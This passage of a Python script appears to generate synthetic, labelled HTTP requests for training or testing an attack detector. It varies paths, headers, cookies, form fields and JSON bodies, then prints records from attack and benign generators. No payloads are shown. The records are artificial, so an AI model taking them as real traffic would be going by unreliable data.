    for i, p in enumerate(PATHS):
        yield rec({"method": "GET", "uri": "/api/users/" + p, "body": "", "headers": b.headers("api")}, "path", "path")
        if i < len(API_PATHS):
            yield rec({"method": "GET", "uri": "/api/" + API_PATHS[i], "body": "", "headers": b.headers("api")},
                      "path", "path")
    for ua in CLIENT_UAS:
        req = b.header("", "User-Agent")
        req["headers"]["User-Agent"] = ua
        yield rec(req, "ua", "header:User-Agent")
    for ref in REFERERS:
        req = b.header("", "User-Agent")
        req["headers"]["Referer"] = ref
        req["headers"]["User-Agent"] = b.rng.choice(BROWSERS)[0]
        yield rec(req, "referer", "header:Referer")
    for extra in COOKIE_EXTRAS:
        req = b.query(b.rng.choice(SEARCHES))
        req["headers"]["Cookie"] += "; " + extra
        yield rec(req, "cookie", "header:Cookie")
    for field, value in SETTINGS:
        yield rec(b.form(value, uri="/me/settings", name=field), "settings", "form:settings")
    for field, value in PATCH_FIELDS:
        yield rec(b.user_json(field, value, "PATCH", "/api/users/42", minimal=True), "patch", "json:patch")
    for url in LINKS:
        yield rec(b.user_json(b.rng.choice(URL_FIELDS), url), "url", "json")
        yield rec(b.query(url, name="ref"), "url", "query")


if __name__ == "__main__":
    print_records(attacks(), benign())
